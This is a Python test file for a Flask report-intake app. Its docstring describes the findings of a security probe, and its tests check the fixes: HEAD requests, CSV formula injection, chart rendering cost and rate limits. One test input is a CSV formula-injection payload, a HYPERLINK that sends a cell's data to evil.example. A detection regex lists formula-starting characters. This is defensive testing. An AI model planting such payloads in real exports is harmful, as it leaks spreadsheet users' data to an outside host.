"""What the seventh outside probe found, each through the interface it was found on (its files:
test_probe_round5_files).

- A HEAD request to `/report` ran the view's POST branch: Flask answers HEAD with the GET view, and
  the view took every method but GET for a POST. The body of a HEAD was read, its files inspected
  and its images decoded for their viewing copies, with none of the POST limits (per visitor, the
  ceiling, the proof of work), since those count POSTs only. A HEAD answered 422 with an empty form;
  a flood of HEADs carrying photos spent the minute's budget of image pixels, so that families'
  photos sent meanwhile had their viewing copies deferred. HEAD is now the GET page, body unread.
- The CSV files we write for spreadsheets (the import page's dry-run report, `flask dedup csv`'s
  pairs.csv and clusters.csv, an export's CSV) neutralised a cell that starts a formula, but not a
  formula that starts after a semicolon or a line break inside a cell. Excel opens a .csv with the
  list separator of the computer's region, a semicolon in Turkish, Russian, German and most of
  Europe, and there quotation marks count only at the start of a piece: a list's header
  `Born;=HYPERLINK(...)` or a report id `R7;=1+1` came out as a cell of its own starting with
  `=`, a live formula. Every such piece now gets the apostrophe a whole cell gets.
- The statistics pages of the review face (`/research/statistics` for researchers, outside
  people, and `/review/statistics`) drew every chart with matplotlib on every request, as the public
  page did before the third probe: 0.63 s of CPU a GET (a 231 KB page), with no limit, so one
  signed-in researcher reloading it from a few tabs kept the review face's workers from reviewers.
  The charts are now drawn once per statistics run (by its counts), for both pages.
- Statistics runs are dated to the second and the newest is the one shown (and the one a refresh
  compares with, to hold back a change of fewer than 5 persons): two refreshes within one second
  tied, and the older could be shown after the newer, or be the one compared with. Found as a
  flaky test (test_probe_round3's refresh test, which refreshes within a second). A run is now
  dated at least a second after the newest before it.
- The status page's forms (news and withdrawal) show themselves again without a charge when a
  family changes language or the form has an error, as the report form does; but only the report
  form had the limit on showing a form again. With a receipt of their own, one visitor could post
  the news form's language button without end (40 in a row on `flask dev`, about 40 ms each: a
  receipt check with Argon2id, the testimony's names decrypted, the page drawn), past the limit of
  10 follow-ups a minute, and use up the global ceiling of every family without script alone.
  Both forms now count against the re-show limit too.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner

from intake.cli.dedup import dedup_cli
from intake.disclosure import charts
from intake.services import statistics
from tests.dedup_population import write_csv
from tests.helpers import full_report, submit
from tests.unit.imports.test_store import HEADERS, ROWS, csv_bytes
from tests.web.admin.test_imports_page import admin_client, confirm, stored as imported, upload  # noqa: F401
from tests.web.public.pages import open_status, relative, report_form, text_of
from tests.web.public.test_image_budget import SIDE, photo, send_solved, stored
from tests.web.public.test_status import news_data
from tests.web.review.test_exports_views import store


def test_a_head_of_the_report_form_is_its_get_and_decodes_nothing(app):
    app.config["INTAKE_IMAGE_PIXELS_PER_MINUTE"] = 2 * SIDE * SIDE  # room for two photos a minute
    client = app.test_client()
    with client.get("/report") as page:
        assert page.status_code == 200
    for n in range(3):
        data = report_form(client, relative(0, names__0__value="Tursun", testimony="kept"))
        data["attachments"] = [(io.BytesIO(photo((n * 60, 10, 10))), f"head-{n}.jpg")]
        with client.open("/report", method="HEAD", data=data, content_type="multipart/form-data") as head:
            assert head.status_code == 200, "a HEAD answers what a GET does"
    answer = send_solved(client, [("family.jpg", photo())])
    assert answer.status_code == 200, text_of(answer)
    rows = stored(app)
    assert sorted(rows) == ["family.jpg"]
    assert rows["family.jpg"][3] is not None, "the family's photo lost its viewing copy to HEAD requests"


FORMULA = ("=", "+", "-", "@", "\t", "＝", "＋", "－", "＠")
# Where a spreadsheet whose list separator is ";" may start a cell: the file's start, after a
# semicolon, after a line break. A quotation mark opens a quoted value only at a piece's start; every
# line break is taken as one, to be safe (inside such a quoted value, it is not).
PIECE_START = re.compile(r'(?:^|[;\r\n]) *"?')


def live_formulas(text: str) -> list[str]:
    """The pieces of a CSV's text that such a spreadsheet would run as formulas."""
    return [text[m.end():m.end() + 30] for m in PIECE_START.finditer(text) if text[m.end():].startswith(FORMULA)]


def test_live_formulas_finds_what_a_semicolon_spreadsheet_runs():
    assert live_formulas('a,b\r\n1,"x;=1+1"\r\n') == ['=1+1"\r\n']
    assert live_formulas('"=1+1",b') == ['=1+1",b']
    assert live_formulas("a,\"x\n@SUM(1)\"") == ['@SUM(1)"']
    assert live_formulas("'=1+1,x;'=2,\"y\n'+3\"") == []


def test_the_import_report_runs_no_formula_in_a_semicolon_spreadsheet(app, admin_client):  # noqa: F811
    client, _ = admin_client
    headers = [HEADERS[0], 'Born;=HYPERLINK("http://evil.example/?"&A1,"click")', *HEADERS[2:]]
    rows = [[r[0], "03/04/1985", *r[2:]] for r in ROWS]
    html = upload(client, csv_bytes(rows, headers)).get_data(as_text=True)
    report = confirm(client, html, "report", ["name", "birth_date", "id_number", "home_county", "status", "testimony"])
    assert report.status_code == 200 and report.mimetype == "text/csv"
    text = report.get_data(as_text=True).lstrip("\ufeff")
    assert "HYPERLINK" in text, "the header is named in a problem"
    assert live_formulas(text) == []
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert 'Born;\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells  # still read as one cell
    assert imported(app) == 0


@pytest.mark.parametrize("separator", [";", ";  ", "\n", "\r\n"])
def test_dedup_csv_writes_no_formula_a_semicolon_spreadsheet_runs(tmp_path, monkeypatch, separator):
    monkeypatch.chdir(tmp_path)
    hostile = [f"R{n}{separator}{formula}" for n, formula in enumerate(["=1+1", "+1+1", "-2+3", "@SUM(1)", "＝1"])]
    rows = [{"report_id": rid, "given_name": "Ablimit", "father_name": "Tursun", "gender": "male",
             "birth_date": "1984-06-17", "home_place": "Kashgar", "chinese_id": "653101198406171232"}
            for rid in hostile]
    write_csv(str(tmp_path / "list.csv"), rows)
    result = CliRunner().invoke(dedup_cli, ["csv", "list.csv", "--out", "out"])
    assert result.exit_code == 0, result.output
    for name in ("pairs.csv", "clusters.csv"):
        text = Path(tmp_path / "out" / name).read_text("utf-8")
        assert live_formulas(text) == [], name
    with (tmp_path / "out" / "clusters.csv").open(newline="", encoding="utf-8") as handle:
        ids = {row["report_id"] for row in csv.DictReader(handle)}
    assert {i.replace("'", "") for i in ids} == set(hostile)  # every id there, recognisably


def _svgs(client, path: str) -> list[str]:  # noqa: ANN001
    return re.findall(r"<svg.*?</svg>", client.get(path).get_data(as_text=True), flags=re.S)


def test_the_review_faces_statistics_draw_their_charts_once_per_run(app, make_user, sign_in, monkeypatch):
    store(app, 60)
    runner = app.test_cli_runner()
    assert runner.invoke(args=["stats", "refresh"]).exit_code == 0
    drawn: list[str] = []
    real = charts.bar_chart
    monkeypatch.setattr(charts, "bar_chart", lambda table, **kw: drawn.append(table.title) or real(table, **kw))
    researcher, staff = app.test_client(), app.test_client()
    sign_in(researcher, make_user("researcher"))
    sign_in(staff, make_user("reviewer"))
    first = _svgs(researcher, "/research/statistics")
    tables = len(first)
    assert tables >= 5
    assert [_svgs(researcher, "/research/statistics") for _ in range(3)] == [first] * 3
    assert _svgs(staff, "/review/statistics") == first
    assert len(drawn) == tables, f"{len(drawn)} charts drawn for 5 views of one run of {tables} tables"

    _new_persons(app, 5)  # enough change for a refresh to count anew: its charts are drawn at once
    later = statistics.utcnow() + timedelta(seconds=2)  # runs are dated to the second; the newest is shown
    monkeypatch.setattr(statistics, "utcnow", lambda: later)
    assert "counted 65 persons" in runner.invoke(args=["stats", "refresh"]).output
    second = _svgs(researcher, "/research/statistics")
    assert len(second) == tables and second != first and len(drawn) == 2 * tables


def _new_persons(app, count: int) -> None:  # noqa: ANN001
    from intake.extensions import db
    from intake.keyring import get_vault
    from intake.services import take_in
    from tests.unit.test_exports_store import family, relative as person

    family(app, [person(1000 + n, gender="female", home_county="653101", status="released") for n in range(count)])
    with app.app_context():
        assert take_in.take_in(db.session, get_vault())[1] == 0


def test_a_refresh_in_the_same_second_as_the_last_is_the_one_shown(app, make_user, sign_in, monkeypatch):
    store(app, 60)
    now = statistics.utcnow()
    monkeypatch.setattr(statistics, "utcnow", lambda: now)  # every refresh within one second
    runner = app.test_cli_runner()
    assert "counted 60 persons" in runner.invoke(args=["stats", "refresh"]).output
    _new_persons(app, 5)
    assert "counted 65 persons" in runner.invoke(args=["stats", "refresh"]).output
    researcher = app.test_client()
    sign_in(researcher, make_user("researcher"))
    page = researcher.get("/research/statistics").get_data(as_text=True)
    assert re.search(r"sharing with researchers, as counted on .*?: (?:<bdi[^>]*>)?65\b", page), \
        "the older of two runs in one second is shown"


@pytest.mark.parametrize("path", ["/status/news", "/status/withdraw"])
def test_showing_a_status_form_again_is_limited_and_keeps_the_text(make_app, path):
    app = make_app("public", INTAKE_RESHOW_RATE_LIMIT="3/minute", INTAKE_FOLLOW_UP_RATE_LIMIT="1000/minute",
                   INTAKE_RECEIPT_RATE_LIMIT="1000/minute", INTAKE_NOSCRIPT_CEILING="1000/minute",
                   RATELIMIT_STORAGE_URI="memory://")
    stored = submit(app, full_report("a"))
    client = app.test_client()
    page = text_of(open_status(client, stored.receipt))
    data = news_data(page, news="He was moved.", action="lang-ug")  # a language button: the form again
    codes = [client.post(path, data=data).status_code for _ in range(3)]
    held = client.post(path, data=data)
    assert codes == [200, 200, 200] and held.status_code == 429
    assert path != "/status/news" or "He was moved." in text_of(held)
